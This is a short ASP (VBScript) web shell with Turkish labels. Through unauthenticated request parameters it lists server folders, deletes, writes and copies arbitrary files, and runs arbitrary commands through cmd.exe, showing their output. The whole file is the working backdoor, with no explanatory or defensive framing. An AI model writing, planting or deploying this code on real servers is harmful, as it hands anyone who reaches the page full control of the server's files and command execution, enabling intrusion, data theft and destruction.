<%@ Language=VBScript inert %>
<%
On Error Resume Next
status = Request("status") : path = Request("path") : dosya = Request("dPath")
Set FSO = Server.CreateObject("Scripting.FileSystemObject")
Function yaz(s) : Response.Write s & "<br>" : End Function
Select Case status
Case 1
  Set dz = FSO.GetFolder(path)
  For Each x In dz.SubFolders : yaz "<a href='?status=1&path=" & path & "\" & x.Name & "'>" & x.Name & "</a>" : Next
Case 7
  FSO.DeleteFile dosya, True : yaz "silindi"
Case 10
  Set f = FSO.CreateTextFile(dosya, True)
  f.Write Request.Form("dkayit")
  f.Close
  yaz "kaydedildi"
Case 16
  Set c = Server.CreateObject("WScript.Shell").Exec("cmd.exe /c " & Request("cmd"))
  yaz "<pre>" & c.StdOut.ReadAll & "</pre>"
Case 20
  FSO.CopyFile dosya, Request("hedef"), True
End Select
%>
<a href="?status=1&path=c:\">Diskler</a> <a href="?status=16">Shell</a>
